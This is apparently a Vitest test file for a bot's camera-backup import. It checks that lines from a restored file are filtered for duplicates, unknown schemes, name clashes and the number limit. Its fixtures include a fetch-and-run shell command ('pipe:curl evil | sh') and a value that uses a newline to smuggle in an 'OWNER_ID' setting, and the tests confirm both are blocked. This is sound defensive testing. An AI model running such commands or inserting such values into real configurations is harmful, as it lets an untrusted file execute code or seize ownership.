import { expect, test } from "vitest";
import { camerasToBring, commandsIn } from "../../../bot/backup/camera-lines.ts";

const here = { TOKEN: "1:a", CAMERA_URL: "rtsp://porch/1", CAMERA_NAME: "Porch" };

test("cameras come where this machine has none of that number", () => {
  const brought = {
    CAMERA_1_URL: "rtsp://old/1",
    CAMERA_2_URL: "rtsp://user:secret@hall/1",
    CAMERA_2_NAME: "Hall",
    CAMERA_3_URL: "/dev/video0",
  };
  const { CAMERA_1_URL: _own, ...lines } = brought;
  expect(camerasToBring(brought, here)).toEqual(lines);
  expect(camerasToBring(brought, { TOKEN: "1:a" })).toEqual(brought);
});

test("a command is never brought: whoever made the file could run anything here", () => {
  const brought = {
    CAMERA_2_URL: "pipe:curl evil | sh",
    CAMERA_2_NAME: "Hall",
    CAMERA_3_URL: "  Pipe: sh",
    CAMERA_4_URL: "rtsp://garden/1",
  };
  expect(camerasToBring(brought, here)).toEqual({ CAMERA_4_URL: "rtsp://garden/1" });
  expect(commandsIn(brought)).toBe(2);
});

test.each([
  ["an address nobody knows", { CAMERA_2_URL: "gopher://hall/1" }],
  ["a name without an address", { CAMERA_2_NAME: "Hall" }],
  ["a name that is taken here", { CAMERA_2_URL: "rtsp://hall/1", CAMERA_2_NAME: "porch" }],
  ["a line of its own behind it", { CAMERA_2_URL: "rtsp://hall/1\nOWNER_ID=666" }],
  ["a number that is none", { CAMERA_1000_URL: "rtsp://hall/1" }],
])("what would keep the guard from starting stays out: %s", (_what, brought) => {
  const lines = { ...brought, CAMERA_5_URL: "rtsp://garden/1" };
  expect(camerasToBring(lines, here)).toEqual({ CAMERA_5_URL: "rtsp://garden/1" });
});
